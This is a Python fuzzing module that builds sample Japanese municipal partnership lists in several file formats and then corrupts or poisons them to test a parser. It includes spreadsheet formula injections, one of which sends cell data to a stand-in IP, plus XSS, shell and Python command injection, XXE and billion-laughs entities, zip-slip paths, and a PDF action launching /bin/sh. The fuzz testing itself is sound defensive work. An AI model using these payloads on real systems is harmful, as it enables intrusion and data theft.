"""Lists of every format, and how they are damaged or made to do harm."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Sequence
from pathlib import Path

from tests.lists import Rows, pages, text_table, workbook

ROWS: Rows = [
    ["文京区の友好都市・災害協定の一覧", "", "", "", ""],
    ["区名", "事業", "相手方", "コード", "開始年度"],
    ["文京区", "災害時相互応援協定", "新潟県魚沼市、島根県津和野町", "152251", "平成22年度"],
    ["", "友好都市", "熊本県熊本市\n石川県金沢市", "", "昭和60年度 令和2年度"],
    ["港区", "交流物産展", "福島県いわき市", "072044", "2015"],
    ["", "", "岐阜県郡上市", "212199", "R3"],
    ["", "環境交流", "あきる野市", "132284", "H19.4.1"],
    ["墨田区", "すみだまつり", "山形県鶴岡市", "062031", "不明"],
]

#: What a cell may hold that a careless reader would run, open or fetch, or that would lead it astray.
VENOM = (
    "=cmd|'/C touch /tmp/koryu-hostile'!A0",
    '=HYPERLINK("http://192.0.2.1/x","金沢市")',
    '=WEBSERVICE("http://192.0.2.1/?"&A1)',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "<script>open('/tmp/koryu-hostile','w')</script>",
    "<img src=file:///etc/passwd onerror=alert(1)>",
    "../../../../tmp/koryu-hostile",
    "$(touch /tmp/koryu-hostile)",
    "{{ 7*7 }}{% include '/etc/passwd' %}",
    "__import__('os').system('touch /tmp/koryu-hostile')",
    "金沢市" * 20_000,
    "（" * 5_000,
    "、・" * 5_000,
    "平成" * 3_000,
    "1" * 5_000,
    "〒" + "\u202e\u200b\u0000\x1b[31m",
    "\ud7ff\ufffe\U0010ffff",
    "令和99999999999年度",
    "９" * 400 + "年",
)
ENTITIES = (
    '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">'
    '<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "http://192.0.2.1/x">]>'
)
_HUGE = (
    b"0",
    b"-1",
    b"99999",
    b"1048576",
    b"2147483647",
    b"4294967296",
    b"99999999999999999999",
    b"1e309",
    b"NaN",
)


def old_workbook(rows: Rows) -> bytes:
    """A workbook of before 2007: a compound file with one stream of BIFF8 records."""

    def record(kind: int, content: bytes) -> bytes:
        return struct.pack("<HH", kind, len(content)) + content

    name = "一覧".encode("utf-16-le")
    sheet = record(0x809, struct.pack("<HHHHII", 0x600, 0x10, 0, 0, 0, 0))
    for row, cells in enumerate(rows):
        for column, text in enumerate(map(str, cells)):
            if text:
                head = struct.pack("<HHHHB", row, column, 0, len(text), 1)
                sheet += record(0x204, head + text.encode("utf-16-le"))
    sheet += record(0xE5, struct.pack("<HHHHH", 1, 3, 5, 0, 0)) + record(0x0A, b"")
    begin = record(0x809, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 0))
    of_sheet = len(begin) + 4 + 8 + len(name) + 4
    stream = begin + record(0x85, struct.pack("<IHBB", of_sheet, 0, 2, 1) + name) + record(0x0A, b"") + sheet
    stream = stream.ljust(max(4096, -(-len(stream) // 512) * 512), b"\x00")
    sectors = len(stream) // 512
    last, unused = 0xFFFFFFFE, 0xFFFFFFFF
    chain = [*range(3, sectors + 2), last]
    table = struct.pack("<128I", *([0xFFFFFFFD, last, *chain, *[unused] * 128])[:128])

    def entry(title: str, kind: int, child: int, start: int, size: int) -> bytes:
        text = title.encode("utf-16-le") + b"\x00\x00"
        links = struct.pack("<BBIII", kind, 1, unused, unused, child)
        return (
            text.ljust(64, b"\x00")
            + struct.pack("<H", len(text))
            + links
            + bytes(36)
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, 1, last, 0) + entry("Workbook", 2, unused, 2, len(stream))
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
    )
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, last, 0, last, 0)
    header += struct.pack("<109I", 0, *[unused] * 108)
    return header + table + directory.ljust(512, b"\x00") + stream


def opendocument(rows: Rows) -> bytes:
    """An OpenDocument spreadsheet."""
    names = "".join(
        f' xmlns:{key}="urn:oasis:names:tc:opendocument:xmlns:{key}:1.0"'
        for key in ("office", "table", "text")
    )
    cell = '<table:table-cell table:number-columns-spanned="1" table:number-columns-repeated="1"><text:p>{}</text:p></table:table-cell>'
    lines = "".join(
        '<table:table-row table:number-rows-repeated="1">'
        + "".join(cell.format(str(text).replace("\n", "</text:p><text:p>")) for text in cells)
        + "</table:table-row>"
        for cells in rows
    )
    content = f'<?xml version="1.0"?><office:document-content{names}><table:table table:name="一覧">{lines}</table:table></office:document-content>'
    return _zipped(
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content.encode()}
    )


def document(rows: Rows) -> bytes:
    """A document of Word with a table."""
    import docx

    made = docx.Document()
    made.add_heading(str(rows[0][0]))
    table = made.add_table(rows=0, cols=len(rows[1]))
    for cells in rows[1:]:
        for cell, text in zip(table.add_row().cells, cells, strict=True):
            cell.text = str(text)
    table.cell(1, 0).merge(table.cell(2, 0))
    stream = io.BytesIO()
    made.save(stream)
    return stream.getvalue()


def page(rows: Rows) -> bytes:
    """A web page with a table."""
    lines = "".join(
        "<tr>" + "".join(f"<td rowspan=1 colspan=1>{text}</td>" for text in cells) + "</tr>"
        for cells in rows[1:]
    )
    return f"<html><head><title>{rows[0][0]}</title></head><body><h1>{rows[0][0]}</h1><table>{lines}</table></body></html>".encode()


def seeds(shared: Path | None) -> dict[str, bytes]:
    """Whole lists, by names whose endings say what they are; those of a folder, too, where there is one."""
    import matplotlib

    with matplotlib.rc_context({"pdf.compression": 0}):  # so that damage reaches what is drawn
        drawn = pages(("文京区の一覧", ROWS[1:], {(1, 0): 2}))
    found = {
        "list.csv": text_table(ROWS, encoding="cp932"),
        "utf8.csv": text_table(ROWS, encoding="utf-8-sig"),
        "list.txt": text_table(ROWS, "\t", "utf-16"),
        "list.xlsx": workbook(("一覧", ROWS, ["A1:E1", "A3:A4"]), ("前年", ROWS[:5], [])),
        "list.xls": old_workbook(ROWS),
        "list.ods": opendocument(ROWS),
        "list.docx": document(ROWS),
        "list.html": page(ROWS),
        "list.pdf": drawn,
    }
    for path in sorted(shared.iterdir()) if shared else ():
        if path.suffix in (".csv", ".txt", ".xlsx", ".xls", ".ods", ".docx", ".html", ".pdf"):
            found[f"shared_{path.name}"] = path.read_bytes()
    return found


def mutant(seed: bytes, others: Sequence[bytes], choose: random.Random) -> bytes:
    """A list damaged or made to do harm, in one way or two."""
    for _ in range(choose.choice((1, 1, 2))):
        if seed.startswith(b"PK") and choose.random() < 0.7:
            seed = _within_parts(seed, choose)
        elif choose.random() < 0.45:
            seed = _damaged(seed, others, choose)
        else:
            seed = _poisoned(seed, choose)
    return seed


def _within_parts(data: bytes, choose: random.Random) -> bytes:
    """An office file with its parts damaged and zipped again, so that the damage is reached."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as old:
            parts = {name: old.read(name) for name in old.namelist()}
    except Exception:  # it was damaged before
        return data
    # Mostly where the list itself stands.
    heavy = [
        name
        for name in parts
        if name.endswith(("document.xml", "content.xml", "sheet1.xml", "sharedStrings.xml"))
    ]
    name = choose.choice(heavy if heavy and choose.random() < 0.8 else sorted(parts))
    what = choose.random()
    if what < 0.05:
        del parts[name]
    elif what < 0.1:
        parts[f"../../../../tmp/koryu-hostile-{choose.randrange(9)}"] = parts[name]
    elif what < 0.15:
        parts[name] = parts[name] + b" " * 3_000_000
    elif what < 0.45:
        parts[name] = _damaged(parts[name], list(parts.values()), choose)
    else:
        parts[name] = _poisoned(parts[name], choose)
    return _zipped(parts)


def _zipped(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return stream.getvalue()


def _damaged(data: bytes, others: Sequence[bytes], choose: random.Random) -> bytes:
    size = len(data) or 1
    a, b = sorted((choose.randrange(size), choose.randrange(size)))
    what = choose.randrange(8)
    if what == 0:
        return data[:b]
    if what == 1:
        return data[a:]
    if what == 2:
        return data[:a] + data[b:]
    if what == 3:
        return data[:b] + data[a:]
    if what == 4:
        return data[:a] + bytes(b - a) + data[b:]
    if what == 5:
        other = choose.choice(others)
        return data[:a] + other[choose.randrange(len(other) or 1) :]
    spoiled = bytearray(data)
    for _ in range(choose.choice((1, 5, 50, 500)) if spoiled else 0):
        at = choose.randrange(len(spoiled))
        spoiled[at] = spoiled[at] ^ 1 << choose.randrange(8) if what == 6 else choose.randrange(256)
    return bytes(spoiled)


def _poisoned(data: bytes, choose: random.Random) -> bytes:
    encoding = next((one for one in ("utf-8", "cp932", "utf-16") if _is(data, one)), "latin-1")
    what = choose.randrange(7)
    if what == 0 and b"?>" in data[:200]:
        return data.replace(b"?>", b"?>" + ENTITIES.encode(), 1).replace("区".encode(), b"&d;&e;&f;", 5)
    if what in (1, 2):  # a number of its own replaced by one that is too big
        found = [
            at for at in range(len(data)) if data[at : at + 1].isdigit() and not data[at - 1 : at].isdigit()
        ]
        for at in sorted(choose.sample(found, min(len(found), choose.choice((1, 3, 30)))), reverse=True):
            end = at
            while data[end : end + 1].isdigit():
                end += 1
            data = data[:at] + choose.choice(_HUGE) + data[end:]
        return data
    if what == 3:  # something repeated or nested without end
        tag = choose.choice(
            ("<table><tr><td>", "<a>", "<row>", "<w:tbl xmlns:w='x'>", ",", "\t", '"', "\n", "[", "<<")
        )
        at = choose.randrange(len(data) or 1)
        times = choose.choice((300, 5_000, 100_000))
        return data[:at] + tag.encode("utf-16-le" if encoding == "utf-16" else "ascii") * times + data[at:]
    if what == 4:
        wide = choose.choice(
            (
                b'rowspan="99999999"',
                b'colspan="99999999"',
                b'number-columns-repeated="16384"',
                b'number-rows-repeated="1048576"',
            )
        )
        for name in (
            b"rowspan=1",
            b"colspan=1",
            b'number-columns-repeated="1"',
            b'number-rows-repeated="1"',
            b'number-columns-spanned="1"',
        ):
            data = data.replace(name, wide, choose.choice((1, 3, -1)))
        merged = b'<mergeCells count="2"><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A2:B1048576"/></mergeCells>'
        data = data.replace(b"</sheetData>", b"</sheetData>" + merged)
        return data.replace(
            b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="999999999"/><w:vMerge/>', choose.choice((1, -1))
        )
    if encoding == "latin-1":  # a PDF, or an old workbook
        script = b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1'\\))>>/AA<</O<</S/Launch/F(/bin/sh)>>>>"
        return (
            data.replace(b"<<", script, 1)
            if choose.random() < 0.5
            else data.replace(b"/Count", b"/Count 999999999 %", 1)
        )
    text = data.decode(encoding)
    places = [at for at, character in enumerate(text) if character in "区市町県度"] or [0]
    for at in sorted(choose.sample(places, min(len(places), choose.choice((1, 5)))), reverse=True):
        text = text[:at] + choose.choice(VENOM) + text[at:]
    return text.encode(encoding, "replace")


def _is(data: bytes, encoding: str) -> bool:
    try:
        data.decode(encoding)
    except UnicodeError:
        return False
    return encoding != "utf-16" or data.startswith((b"\xff\xfe", b"\xfe\xff"))
